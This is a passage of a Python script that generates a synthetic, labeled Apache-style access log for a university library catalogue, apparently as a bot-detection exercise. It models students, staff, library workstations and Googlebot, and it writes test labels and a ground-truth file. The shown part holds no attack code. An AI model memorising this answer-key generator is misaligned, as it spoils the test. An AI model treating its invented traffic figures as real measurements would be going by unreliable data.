#!/usr/bin/env python3
"""Synthetic, labeled access log of a university library catalogue (VuFind-like OPAC),
in Apache/nginx *combined* format, with no session and no user column.

Writes (into the folder given, default: this script's folder):
  train.log            7 days (Mon 2025-03-03 .. Sun 03-09), normal traffic only
  test.log             3 days (Mon 2025-03-10 .. Wed 03-12), normal traffic + bots
  labels.csv           key,label  for every client in test.log (key = the importer's
                       'client:<16 hex>' user id = SHA-256(ip + "\\x1f" + user agent)[:16],
                       as docs/traffic.md "How users are identified without a user id" says)
  test_clients.csv     the same keys with kind, people behind the key, ip, ua, lines (for analysis)
  ground_truth.json    counts per kind / bot family, key conflicts

Deterministic for --seed. Only the standard library is used.
"""

import argparse
import bisect
import csv
import datetime as dt
import hashlib
import json
import math
import os
import random
import urllib.parse
from collections import defaultdict

TZ = dt.timezone(dt.timedelta(hours=2))  # Europe/Athens, winter time (EET)
HOST = "https://catalogue.library.example.edu"
TRAIN_START = dt.datetime(2025, 3, 3, tzinfo=TZ)
TRAIN_DAYS = 7
TEST_START = dt.datetime(2025, 3, 10, tzinfo=TZ)
TEST_DAYS = 3
FAILED_LOGIN_STATUS = 200  # the form shown again, as VuFind/Koha-like OPACs do; success = 302


# ---------------------------------------------------------------- user agents (real strings)
def chrome_win(v):
    return f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"


def chrome_mac(v):
    return f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"


def chrome_linux(v):
    return f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"


def chrome_android(v):
    return f"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36"


def edge_win(v):
    return f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0"


def firefox_win(v):
    return f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"


def firefox_linux(v):
    return f"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"


def firefox_mac(v):
    return f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"


def safari_mac(v):
    return f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v} Safari/605.1.15"


def safari_ios(os_v, v):
    return (
        f"Mozilla/5.0 (iPhone; CPU iPhone OS {os_v} like Mac OS X) AppleWebKit/605.1.15 "
        f"(KHTML, like Gecko) Version/{v} Mobile/15E148 Safari/604.1"
    )


def samsung(model, v, cv):
    return (
        f"Mozilla/5.0 (Linux; Android 14; SAMSUNG {model}) AppleWebKit/537.36 (KHTML, like Gecko) "
        f"SamsungBrowser/{v} Chrome/{cv}.0.0.0 Mobile Safari/537.36"
    )


def crios(os_v, v):
    return (
        f"Mozilla/5.0 (iPhone; CPU iPhone OS {os_v} like Mac OS X) AppleWebKit/605.1.15 "
        f"(KHTML, like Gecko) CriOS/{v} Mobile/15E148 Safari/604.1"
    )


DESKTOP_UAS = [  # (ua, weight)
    (chrome_win(133), 22),
    (chrome_win(134), 8),
    (chrome_win(132), 5),
    (chrome_win(131), 2),
    (chrome_win(129), 1),
    (chrome_mac(133), 6),
    (chrome_mac(134), 2),
    (chrome_mac(131), 1),
    (chrome_linux(133), 1.5),
    (chrome_linux(132), 0.5),
    (edge_win(133), 6),
    (edge_win(134), 2),
    (edge_win(131), 1),
    (firefox_win(135), 6),
    (firefox_win(136), 2),
    (firefox_win(128), 2),
    (firefox_win(134), 1),
    (firefox_linux(135), 2),
    (firefox_linux(128), 1),
    (firefox_mac(135), 1.5),
    (safari_mac("18.3"), 4),
    (safari_mac("18.2"), 1.5),
    (safari_mac("17.6"), 1.5),
    (safari_mac("18.3.1"), 1),
]
MOBILE_UAS = [
    (chrome_android(133), 18),
    (chrome_android(134), 6),
    (chrome_android(132), 4),
    (chrome_android(131), 2),
    (safari_ios("18_3_1", "18.3"), 10),
    (safari_ios("18_3", "18.3"), 6),
    (safari_ios("18_2_1", "18.2"), 4),
    (safari_ios("17_7_2", "17.6"), 3),
    (safari_ios("16_7_10", "16.6"), 1),
    (samsung("SM-S918B", "27.0", 125), 3),
    (samsung("SM-A546B", "26.0", 122), 2),
    (crios("18_3", "133.0.6943.120"), 2),
]
LIB_WORKSTATION_UA = firefox_win(128)  # managed Firefox ESR image on the library's public PCs

GOOGLEBOT_SMART = (
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/133.0.6943.141 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
)
GOOGLEBOT_DESK = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
GOOGLEBOT_DESK2 = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) "
    "Chrome/133.0.6943.141 Safari/537.36"
)
BINGBOT = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) "
    "Chrome/116.0.1938.76 Safari/537.36"
)
MONITOR_UA = "check_http/v2.3.3 (monitoring-plugins 2.3.3)"
FEEDLY_UA = "Feedly/1.0 (+https://feedly.com/poller.html; 14 subscribers; )"


def wchoice(rng, pairs):
    total = sum(w for _, w in pairs)
    x = rng.random() * total
    for item, w in pairs:
        x -= w
        if x <= 0:
            return item
    return pairs[-1][0]


# ---------------------------------------------------------------- address space
# residential /16s (country, prefix); mostly Greek ISPs, some abroad
GR_RESIDENTIAL = ["79.129", "94.65", "94.66", "2.84", "2.86", "85.72", "85.73", "178.59", "46.176", "176.58"]
GR_MOBILE = ["46.103", "37.6"]  # carrier-grade NAT pools: few addresses, many phones
ABROAD_RESIDENTIAL = [
    "73.162",
    "98.207",
    "86.14",
    "81.157",
    "91.64",
    "79.205",
    "88.70",
    "82.64",
    "93.34",
    "151.38",
    "217.120",
    "84.115",
    "109.190",
    "188.26",
]
CAMPUS = "155.207"
LIB_WS_NAT = "155.207.14.250"
EDUROAM_NAT = ["155.207.240.10", "155.207.240.11", "155.207.240.12", "155.207.240.13"]
MONITOR_IP = "155.207.1.20"


def rand_ip(rng, prefixes):
    p = rng.choice(prefixes)
    return f"{p}.{rng.randint(1, 254)}.{rng.randint(1, 254)}"


MOBILE_POOL = None  # built in main: a few hundred CGNAT addresses shared by all phones

# ---------------------------------------------------------------- the catalogue
N_RECORDS = 640000
SUBJECTS = [
    "history",
    "byzantine history",
    "ancient greek philosophy",
    "machine learning",
    "organic chemistry",
    "constitutional law",
    "european union law",
    "macroeconomics",
    "microeconomics",
    "public health",
    "epidemiology",
    "greek mythology",
    "modern greek literature",
    "archaeology",
    "classical archaeology",
    "statistics",
    "linear algebra",
    "quantum mechanics",
    "thermodynamics",
    "civil engineering",
    "structural analysis",
    "architecture",
    "urban planning",
    "climate change",
    "renewable energy",
    "pedagogy",
    "special education",
    "psychology",
    "cognitive psychology",
    "sociology",
    "social theory",
    "political science",
    "international relations",
    "ottoman empire",
    "balkan history",
    "music theory",
    "film studies",
    "veterinary medicine",
    "pharmacology",
    "anatomy",
    "neuroscience",
    "genetics",
    "microbiology",
    "dentistry",
    "agriculture",
    "forestry",
    "marine biology",
    "geology",
    "seismology",
    "computer networks",
    "databases",
    "operating systems",
    "algorithms",
    "data mining",
    "deep learning",
    "natural language processing",
    "theology",
    "orthodox church history",
    "art history",
    "renaissance art",
    "translation studies",
    "linguistics",
    "english literature",
    "shakespeare",
    "journalism",
    "accounting",
    "marketing",
    "finance",
    "game theory",
    "logic",
    "ethics",
    "bioethics",
    "nursing",
    "physiotherapy",
]
AUTHORS = [
    "Kazantzakis",
    "Cavafy",
    "Seferis",
    "Elytis",
    "Ritsos",
    "Aristotle",
    "Plato",
    "Thucydides",
    "Herodotus",
    "Homer",
    "Hobsbawm",
    "Foucault",
    "Bourdieu",
    "Habermas",
    "Arendt",
    "Keynes",
    "Piketty",
    "Kahneman",
    "Knuth",
    "Russell Norvig",
    "Goodfellow",
    "Bishop",
    "Hastie Tibshirani",
    "Feynman",
    "Griffiths",
    "Atkins",
    "Lehninger",
    "Guyton",
    "Kandel",
    "Mazower",
    "Clogg",
    "Runciman",
    "Ostrogorsky",
    "Dostoevsky",
    "Woolf",
    "Joyce",
    "Eco",
    "Calvino",
    "Said",
    "Chomsky",
    "Saussure",
    "Wittgenstein",
    "Kant",
    "Hegel",
]
GREEK_TERMS = [
    "ιστορία",
    "φιλοσοφία",
    "οικονομία",
    "Βυζάντιο",
    "παιδαγωγική",
    "ψυχολογία",
    "δίκαιο",
    "αρχαιολογία",
    "λογοτεχνία",
    "μαθηματικά",
    "Καζαντζάκης",
    "Καβάφης",
    "Σεφέρης",
    "Θεσσαλονίκη",
    "Μακεδονία",
    "εκκλησία",
    "ποίηση",
    "γλωσσολογία",
]
TITLE_WORDS = [
    "introduction to",
    "handbook of",
    "principles of",
    "the history of",
    "a companion to",
    "essentials of",
    "advanced",
    "modern",
    "theory and practice",
    "methods in",
    "foundations of",
]
FORMATS = ["Book", "eBook", "Journal", "Thesis", "Article", "Video", "Map"]
LANGS = ["Greek", "English", "German", "French", "Italian"]


def record_exists(rid):
    return (rid * 2654435761) % 100 >= 3  # ~3 % of ids were deleted


def rid_str(rid):
    return f"{rid:09d}"


def isbn_for(rid):
    h = int(hashlib.md5(str(rid).encode()).hexdigest(), 16)
    return f"978{h % 10**10:010d}"


class Catalogue:
    def __init__(self, rng):
        # popular records: a Zipf-like head over a random subset
        self.popular = [rng.randint(1, N_RECORDS) for _ in range(6000)]
        self.cum = []
        c = 0.0
        for i in range(len(self.popular)):
            c += 1.0 / (i + 1) ** 0.9
            self.cum.append(c)

    def human_record(self, rng):
        if rng.random() < 0.55:
            x = rng.random() * self.cum[-1]
            return self.popular[bisect.bisect_left(self.cum, x)]
        return rng.randint(1, N_RECORDS)


def q(params):
    return urllib.parse.urlencode(params, quote_via=urllib.parse.quote_plus)


def human_query(rng):
    r = rng.random()
    if r < 0.45:
        s = rng.choice(SUBJECTS)
        if rng.random() < 0.3:
            s += " " + rng.choice(SUBJECTS).split()[-1]
        return s, "AllFields"
    if r < 0.62:
        return rng.choice(AUTHORS), rng.choice(["Author", "AllFields"])
    if r < 0.76:
        return rng.choice(GREEK_TERMS) + ("" if rng.random() < 0.6 else " " + rng.choice(GREEK_TERMS)), "AllFields"
    if r < 0.92:
        return f"{rng.choice(TITLE_WORDS)} {rng.choice(SUBJECTS)}", rng.choice(["Title", "AllFields"])
    if r < 0.97:
        return isbn_for(rng.randint(1, N_RECORDS)), "ISN"
    return '"' + rng.choice(SUBJECTS) + '"', "AllFields"


def search_path(lookfor, typ, page=1, filters=(), sort=None):
    params = [("lookfor", lookfor), ("type", typ)]
    for f in filters:
        params.append(("filter[]", f))
    if sort:
        params.append(("sort", sort))
    if page > 1:
        params.append(("page", str(page)))
    return "/Search/Results?" + q(params)


# ---------------------------------------------------------------- assets
V = "1740405600"  # cache-busting build stamp of the theme
CORE_ASSETS = [
    (f"/themes/bootstrap5/css/compiled.css?_={V}", 214331),
    (f"/themes/bootstrap5/css/print.css?_={V}", 4120),
    (f"/themes/bootstrap5/js/vendor/jquery.min.js?_={V}", 87533),
    (f"/themes/bootstrap5/js/vendor/bootstrap.bundle.min.js?_={V}", 80721),
    (f"/themes/bootstrap5/js/common.js?_={V}", 21873),
    (f"/themes/bootstrap5/js/lightbox.js?_={V}", 9102),
    ("/themes/library/images/university-logo.svg", 14488),
]
FONT_ASSETS = [
    ("/themes/bootstrap5/css/webfonts/fa-solid-900.woff2", 156404),
    ("/themes/bootstrap5/css/webfonts/fa-regular-400.woff2", 25472),
]
TYPE_ASSETS = {
    "search": [
        (f"/themes/bootstrap5/js/check_item_statuses.js?_={V}", 6510),
        (f"/themes/bootstrap5/js/searchbox_controls.js?_={V}", 3301),
    ],
    "record": [
        (f"/themes/bootstrap5/js/record.js?_={V}", 8870),
        (f"/themes/bootstrap5/js/check_item_statuses.js?_={V}", 6510),
    ],
    "account": [(f"/themes/bootstrap5/js/account_ajax.js?_={V}", 5002)],
}


class Log:
    def __init__(self):
        self.rows = []  # (t, seq, ip, ua, method, path, proto, status, size, ref, kind, actor)
        self.seq = 0

    def add(self, t, ip, ua, method, path, status, size, ref, kind, actor, proto="HTTP/2.0"):
        self.seq += 1
        self.rows.append((t, self.seq, ip, ua, method, path, proto, status, size, ref, kind, actor))


# ---------------------------------------------------------------- people
class Device:
    def __init__(self, rng, mobile):
        self.mobile = mobile
        self.ua = wchoice(rng, MOBILE_UAS if mobile else DESKTOP_UAS)
        self.cached = {}  # asset -> time cached
        self.private = rng.random() < 0.04  # always a cold cache (private window, cache cleared)


class Person:
    def __init__(self, rng, pid, regular, country="GR"):
        self.pid = pid
        self.regular = regular
        self.devices = []
        if rng.random() < 0.75:
            self.devices.append(Device(rng, mobile=False))
        if rng.random() < 0.6 or not self.devices:
            self.devices.append(Device(rng, mobile=True))
        prefixes = GR_RESIDENTIAL if country == "GR" else ABROAD_RESIDENTIAL
        self.home_ip = rand_ip(rng, prefixes)
        self.prefixes = prefixes
        self.student = regular and rng.random() < 0.7
        self.staff_ip = (
            f"{CAMPUS}.{rng.randint(20, 200)}.{rng.randint(2, 250)}"
            if regular and not self.student and rng.random() < 0.6
            else None
        )
        # heavy-tailed activity: daily visit probability on weekdays
        self.p_visit = min(0.6, 0.02 * (rng.paretovariate(1.3))) if regular else 0.0
        self.has_account = regular and rng.random() < 0.5


def diurnal_weight(hour, weekday):
    w = [
        0.15,
        0.08,
        0.05,
        0.03,
        0.03,
        0.05,
        0.15,
        0.4,
        0.8,
        1.1,
        1.3,
        1.35,
        1.3,
        1.2,
        1.15,
        1.1,
        1.0,
        0.95,
        1.0,
        1.05,
        1.1,
        1.0,
        0.75,
        0.4,
    ][hour]
    return w * (0.6 if weekday >= 5 else 1.0)


def sample_time_in_day(rng, day_start, weekday, lo=0, hi=24):
    hours = list(range(lo, hi))
    weights = [diurnal_weight(h, weekday) for h in hours]
    h = wchoice(rng, list(zip(hours, weights)))
    return day_start + h * 3600 + rng.random() * 3600


def think(rng, median, sigma, cap=1200):
    return min(cap, rng.lognormvariate(math.log(median), sigma))


class HumanVisit:
    """One person's visit on one device from one address: pages, their assets and calls."""

    def __init__(self, rng, log, cat, t0, ip, dev, kind, actor, account=False, cold=False):
        self.rng, self.log, self.cat = rng, log, cat
        self.t, self.ip, self.dev, self.kind, self.actor = t0, ip, dev, kind, actor
        self.cur = None  # current page URL (for referers)
        self.account = account
        self.first_page = True
        if cold or dev.private:
            dev.cached = {}  # a fresh profile / private window: cold cache at the visit's start

    # assets ---------------------------------------------------------------
    def _assets(self, page_type, page_url):
        rng, dev = self.rng, self.dev
        t = self.t
        need = list(CORE_ASSETS) + TYPE_ASSETS.get(page_type, [])
        offs = sorted(rng.uniform(0.05, 0.9) for _ in need)
        reload = rng.random() < 0.03
        for (path, size), off in zip(need, offs):
            fresh = path in dev.cached and t - dev.cached[path] < 7 * 86400
            if fresh and not reload:
                continue
            if fresh and reload:
                self.log.add(t + off, self.ip, dev.ua, "GET", path, 304, 0, page_url, self.kind, self.actor)
            else:
                self.log.add(t + off, self.ip, dev.ua, "GET", path, 200, size, page_url, self.kind, self.actor)
                dev.cached[path] = t
                if path.startswith("/themes/bootstrap5/css/compiled.css"):
                    for fpath, fsize in FONT_ASSETS:
                        if fpath not in dev.cached:
                            self.log.add(
                                t + off + rng.uniform(0.05, 0.3),
                                self.ip,
                                dev.ua,
                                "GET",
                                fpath,
                                200,
                                fsize,
                                HOST + path,
                                self.kind,
                                self.actor,
                            )
                            dev.cached[fpath] = t
        if self.first_page and "/favicon.ico" not in dev.cached:
            self.log.add(
                t + rng.uniform(0.3, 1.2),
                self.ip,
                dev.ua,
                "GET",
                "/favicon.ico",
                200,
                5430,
                page_url,
                self.kind,
                self.actor,
            )
            dev.cached["/favicon.ico"] = t
        if self.first_page and dev.mobile and "iPhone" in dev.ua and rng.random() < 0.25:
            for p in ("/apple-touch-icon-precomposed.png", "/apple-touch-icon.png"):
                self.log.add(t + rng.uniform(0.5, 1.5), self.ip, dev.ua, "GET", p, 404, 162, "-", self.kind, self.actor)
        self.first_page = False

    def _covers(self, rids, size, page_url, spread=1.2):
        for rid in rids:
            path = f"/Cover/Show?{q([('author', ''), ('callnumber', ''), ('size', size), ('title', ''), ('recordid', rid_str(rid)), ('source', 'Solr'), ('isbns[]', isbn_for(rid))])}"
            self.log.add(
                self.t + self.rng.uniform(0.2, spread),
                self.ip,
                self.dev.ua,
                "GET",
                path,
                200,
                self.rng.randint(2500, 18000),
                page_url,
                self.kind,
                self.actor,
            )

    def _ajax_status(self, rids, page_url):
        path = "/AJAX/JSON?method=getItemStatuses&" + q([("id[]", rid_str(r)) for r in rids])
        self.log.add(
            self.t + self.rng.uniform(0.15, 0.8),
            self.ip,
            self.dev.ua,
            "GET",
            path,
            200,
            180 + 240 * len(rids),
            page_url,
            self.kind,
            self.actor,
        )

    # pages ----------------------------------------------------------------
    def page(self, path, page_type, status=200, size=None, method="GET", ref=None, assets=True):
        url = HOST + path
        referer = ref if ref is not None else (self.cur if self.cur else "-")
        if size is None:
            size = int(self.rng.lognormvariate(math.log(24000), 0.35))
        self.log.add(self.t, self.ip, self.dev.ua, method, path, status, size, referer, self.kind, self.actor)
        if assets and status < 400 and method == "GET":
            self._assets(page_type, url)
        if method == "GET" and status == 200:
            self.cur = url
        return url

    def wait(self, median=14, sigma=1.0):
        self.t += think(self.rng, median, sigma)
        if self.rng.random() < 0.02:
            self.t += self.rng.uniform(600, 3000)  # left the tab open, came back

    def home(self, ref="-"):
        self.page("/", "home", ref=ref)

    def search(self, lookfor=None, typ=None, page=1, filters=(), sort=None):
        if lookfor is None:
            lookfor, typ = human_query(self.rng)
        url = self.page(search_path(lookfor, typ, page, filters, sort), "search")
        n = 0 if self.rng.random() < 0.08 else 20
        rids = [self.cat.human_record(self.rng) for _ in range(n)]
        if rids:
            self._ajax_status(rids, url)
            self._covers(rids[: self.rng.randint(4, 10)], "small", url)
        return lookfor, typ, rids

    def record(self, rid, ref=None):
        path = f"/Record/{rid_str(rid)}"
        if not record_exists(rid):
            self.page(path, "record", status=404, size=7345, ref=ref)
            return False
        url = self.page(path, "record", ref=ref)
        self._covers([rid], "medium", url, spread=0.8)
        self._ajax_status([rid], url)
        return True

    def record_tab(self, rid):
        tab = wchoice(self.rng, [("Holdings", 5), ("Description", 3), ("TOC", 1), ("Details", 1)])
        path = f"/Record/{rid_str(rid)}/AjaxTab"
        # tabs are loaded by AJAX POST (tab=...) in VuFind
        self.log.add(
            self.t,
            self.ip,
            self.dev.ua,
            "POST",
            path,
            200,
            self.rng.randint(1500, 9000),
            self.cur,
            self.kind,
            self.actor,
        )
        _ = tab

    def cite_or_export(self, rid):
        if self.rng.random() < 0.6:
            path = f"/Record/{rid_str(rid)}/Cite?layout=lightbox"
            self.log.add(
                self.t,
                self.ip,
                self.dev.ua,
                "GET",
                path,
                200,
                self.rng.randint(3000, 6000),
                self.cur,
                self.kind,
                self.actor,
            )
        else:
            style = self.rng.choice(["RIS", "BibTeX", "EndNote"])
            path = f"/Record/{rid_str(rid)}/Export?style={style}"
            self.log.add(
                self.t,
                self.ip,
                self.dev.ua,
                "GET",
                path,
                200,
                self.rng.randint(600, 2000),
                self.cur,
                self.kind,
                self.actor,
            )

    def login_flow(self, fail_first=False):
        self.page("/MyResearch/Home", "account", status=302, size=0, assets=False)
        self.t += self.rng.uniform(0.1, 0.4)
        self.page("/login", "account")
        self.wait(9, 0.5)
        if fail_first:
            self.page("/login", "account", status=FAILED_LOGIN_STATUS, size=9120, method="POST", ref=HOST + "/login")
            self._assets("account", HOST + "/login")
            self.wait(10, 0.5)
        self.page("/login", "account", status=302, size=0, method="POST", ref=HOST + "/login")
        self.t += self.rng.uniform(0.1, 0.5)
        self.page("/account", "account", ref=HOST + "/login")

    def account_pages(self):
        rng = self.rng
        self.wait(8, 0.7)
        self.page("/account/checkouts", "account")
        if rng.random() < 0.35:
            self.wait(12, 0.6)
            self.page("/account/checkouts", "account", method="POST", size=26000)  # renew
            self.log.add(
                self.t + rng.uniform(0.2, 0.6),
                self.ip,
                self.dev.ua,
                "GET",
                "/AJAX/JSON?method=getUserTransactionCount",
                200,
                96,
                self.cur,
                self.kind,
                self.actor,
            )
        if rng.random() < 0.4:
            self.wait(10, 0.7)
            self.page("/account/holds", "account")
        if rng.random() < 0.15:
            self.wait(10, 0.7)
            self.page("/account/fines", "account")

    def logout(self):
        self.wait(8, 0.8)
        self.page("/logout", "home", status=302, size=0, assets=False)
        self.t += self.rng.uniform(0.1, 0.4)
        self.page("/", "home")

    def browse_results(self, rids, max_clicks):
        rng = self.rng
        results_url = self.cur
        clicks = min(len(rids), max_clicks)
        for i in range(clicks):
            self.wait(12, 0.9)
            rid = rids[min(len(rids) - 1, int(rng.expovariate(0.25)))]
            ok = self.record(rid, ref=results_url)
            if ok and rng.random() < 0.35:
                self.wait(6, 0.8)
                self.record_tab(rid)
            if ok and rng.random() < 0.12:
                self.wait(15, 0.8)
                self.cite_or_export(rid)
            self.wait(30, 1.1)  # reading the record
            if i < clicks - 1 and rng.random() < 0.25:
                # back to the results: the browser asks again (no bfcache)
                self.page(
                    urllib.parse.urlsplit(results_url).path + "?" + urllib.parse.urlsplit(results_url).query,
                    "search",
                    ref=self.cur,
                )
                results_url = self.cur
                self._ajax_status(rids[:20], results_url)  # the page's script asks again; covers are cached

    def run(self, intent):
        rng = self.rng
        if intent == "google":
            rid = self.cat.human_record(rng)
            ok = self.record(
                rid,
                ref=rng.choice(
                    [
                        "https://www.google.com/",
                        "https://www.google.gr/",
                        "https://www.google.com/",
                        "https://www.bing.com/",
                        "https://scholar.google.com/",
                        "https://duckduckgo.com/",
                    ]
                ),
            )
            if ok and rng.random() < 0.35:
                self.wait(8, 0.8)
                self.record_tab(rid)
            if rng.random() < 0.3:
                self.wait(25, 1.0)
                _, _, rids = self.search()
                self.browse_results(rids, rng.randint(0, 3))
            return
        if intent == "info":
            self.home(ref=rng.choice(["-", "https://www.example.edu/", "https://lib.example.edu/"]))
            self.wait(8, 0.8)
            p = rng.choice(
                ["/Content/hours", "/Content/help", "/Search/NewItem", "/Content/databases", "/Search/Advanced"]
            )
            self.page(p, "home")
            if p == "/Search/NewItem":
                self.wait(10, 0.8)
                self.search("", "AllFields", filters=(f'format:"{rng.choice(FORMATS)}"',), sort="first_indexed desc")
            elif p == "/Search/Advanced":
                self.wait(40, 0.6)
                _, _, rids = self.search(f"{rng.choice(SUBJECTS)} AND {rng.choice(AUTHORS)}", "AdvancedSearch")
                self.browse_results(rids, rng.randint(0, 2))
            return
        # search / account
        start = rng.random()
        if start < 0.55:
            self.home(
                ref=rng.choice(
                    ["-", "-", "https://lib.example.edu/", "https://www.example.edu/", "https://elearning.example.edu/"]
                )
            )
            self.wait(9, 0.8)
        if intent == "account":
            self.login_flow(fail_first=rng.random() < 0.07)
            self.account_pages()
            if rng.random() < 0.5:
                self.wait(10, 0.8)
            else:
                if rng.random() < 0.4:
                    self.logout()
                return
        n_searches = 1 + min(6, int(rng.expovariate(0.7)))
        for _ in range(n_searches):
            lookfor, typ, rids = self.search()
            if rids and rng.random() < 0.2:
                self.wait(10, 0.7)
                _, _, more = self.search(lookfor, typ, page=2)
                rids = rids + more
            if rids and rng.random() < 0.25:
                self.wait(8, 0.7)
                f = rng.choice(
                    [
                        f'format:"{rng.choice(FORMATS)}"',
                        f'language:"{rng.choice(LANGS)}"',
                        f'publishDate:"[{rng.randint(1990, 2015)} TO *]"',
                    ]
                )
                _, _, rids = self.search(lookfor, typ, filters=(f,))
            if rng.random() < 0.06:
                self.wait(20, 0.8)
                self.page(f"/Author/Home?{q([('author', rng.choice(AUTHORS))])}", "search")
            self.browse_results(rids, int(rng.expovariate(0.45)) + (1 if rng.random() < 0.6 else 0))
            self.wait(15, 0.8)
        if self.account and rng.random() < 0.3:
            self.logout()


# ---------------------------------------------------------------- normal population, per day
def gen_humans(rng, log, cat, day_start, weekday, regulars, day_index, mobile_pool, tally):
    """All human visits of one day."""
    visits = 0
    # regulars
    for p in regulars:
        pv = p.p_visit * (0.45 if weekday >= 5 else 1.0)
        if rng.random() >= pv:
            continue
        n = 1 + (1 if rng.random() < 0.15 else 0)
        for _ in range(n):
            on_campus = weekday < 5 and (p.student and rng.random() < 0.45 or p.staff_ip and rng.random() < 0.7)
            if weekday == 5 and p.student and rng.random() < 0.15:
                on_campus = True
            if on_campus:
                t0 = sample_time_in_day(rng, day_start, weekday, 8, 20)
            else:
                t0 = sample_time_in_day(rng, day_start, weekday)
            # library public workstation (some students use them instead of their own device)
            if on_campus and p.student and rng.random() < 0.25 and (weekday < 5 or weekday == 5):
                dev = Device(rng, mobile=False)
                dev.ua = LIB_WORKSTATION_UA
                ip, kind = LIB_WS_NAT, "human:library_workstation_nat"
                cold = True
            else:
                dev = rng.choice(p.devices)
                cold = False
                if on_campus and p.staff_ip and not dev.mobile:
                    ip, kind = p.staff_ip, "human:campus_office"
                elif on_campus:
                    # eduroam: the NAT maps each device to one of four addresses
                    h = int(hashlib.md5(f"{p.pid}{dev.ua}{day_index}".encode()).hexdigest(), 16)
                    ip, kind = EDUROAM_NAT[h % 4], "human:eduroam_nat"
                elif dev.mobile and rng.random() < 0.6:
                    ip, kind = rng.choice(mobile_pool), "human:mobile_cgnat"
                else:
                    if rng.random() < 0.03:
                        p.home_ip = rand_ip(rng, p.prefixes)  # the ISP gave a new address
                    ip, kind = p.home_ip, "human:home"
            intent = wchoice(
                rng, [("search", 62), ("account", 20 if p.has_account else 3), ("info", 8), ("google", 10)]
            )
            HumanVisit(rng, log, cat, t0, ip, dev, kind, f"person-{p.pid}", account=intent == "account", cold=cold).run(
                intent
            )
            tally[kind] += 1
            visits += 1
    # walk-in users of the library's public workstations (one NAT address, one managed browser build,
    # a profile reset at every logout: a cold cache each time)
    if weekday < 6:
        for _ in range(poisson(rng, 16 if weekday < 5 else 6)):
            dev = Device(rng, mobile=False)
            dev.ua = LIB_WORKSTATION_UA
            t0 = sample_time_in_day(rng, day_start, weekday, 9, 20 if weekday < 5 else 15)
            intent = wchoice(rng, [("search", 80), ("info", 12), ("account", 8)])
            HumanVisit(
                rng,
                log,
                cat,
                t0,
                LIB_WS_NAT,
                dev,
                "human:library_workstation_nat",
                f"walkin-{day_index}-{_}",
                account=intent == "account",
                cold=True,
            ).run(intent)
            tally["human:library_workstation_nat"] += 1
            visits += 1
    # one-off visitors of the day (mostly from search engines), Poisson
    lam = 95 if weekday < 5 else 60
    n = poisson(rng, lam)
    for i in range(n):
        abroad = rng.random() < 0.35
        person = Person(rng, f"d{day_index}-{i}", regular=False, country="XX" if abroad else "GR")
        dev = rng.choice(person.devices)
        if dev.mobile and rng.random() < 0.7 and not abroad:
            ip, kind = rng.choice(mobile_pool), "human:mobile_cgnat"
        else:
            ip, kind = person.home_ip, "human:oneoff"
        t0 = sample_time_in_day(rng, day_start, weekday)
        intent = wchoice(rng, [("google", 60), ("search", 32), ("info", 8)])
        HumanVisit(rng, log, cat, t0, ip, dev, kind, f"person-{person.pid}").run(intent)
        tally[kind] += 1
        visits += 1
    return visits


def poisson(rng, lam):
    # Knuth for small, normal approx for large
    if lam > 50:
        return max(0, int(round(rng.gauss(lam, math.sqrt(lam)))))
    L, k, p = math.exp(-lam), 0, 1.0
    while p > L:
        k += 1
        p *= rng.random()
    return k - 1


def gen_crawlers(rng, log, day_start, day_index):
    # Googlebot: a few addresses a day, bursty fetches of records, robots.txt, sitemaps
    g_ips = [f"66.249.{rng.choice([64, 66, 68, 79])}.{rng.randint(1, 220)}" for _ in range(rng.randint(4, 7))]
    t = day_start + rng.uniform(0, 600)
    end = day_start + 86400
    for k in range(4):
        ip = rng.choice(g_ips)
        log.add(
            day_start + k * 21600 + rng.uniform(0, 3600),
            ip,
            GOOGLEBOT_DESK,
            "GET",
            "/robots.txt",
            200,
            412,
            "-",
            "crawler:googlebot",
            "googlebot",
            proto="HTTP/1.1",
        )
    ip = rng.choice(g_ips)
    ts = day_start + rng.uniform(7200, 20000)
    log.add(
        ts,
        ip,
        GOOGLEBOT_DESK,
        "GET",
        "/sitemap.xml",
        200,
        1830,
        "-",
        "crawler:googlebot",
        "googlebot",
        proto="HTTP/1.1",
    )
    for s in rng.sample(range(1, 65), 3):
        log.add(
            ts + rng.uniform(5, 300),
            ip,
            GOOGLEBOT_DESK,
            "GET",
            f"/sitemap/records-{s}.xml",
            200,
            rng.randint(700000, 900000),
            "-",
            "crawler:googlebot",
            "googlebot",
            proto="HTTP/1.1",
        )
    while t < end:
        # bursts of 3-30 fetches a few seconds apart, bursts ~6 min apart on average
        burst = rng.randint(3, 30)
        ip = rng.choice(g_ips)
        ua = GOOGLEBOT_SMART if rng.random() < 0.8 else GOOGLEBOT_DESK2
        for _ in range(burst):
            r = rng.random()
            if r < 0.88:
                rid = rng.randint(1, N_RECORDS)
                path, st, sz = f"/Record/{rid_str(rid)}", 200 if record_exists(rid) else 404, 0
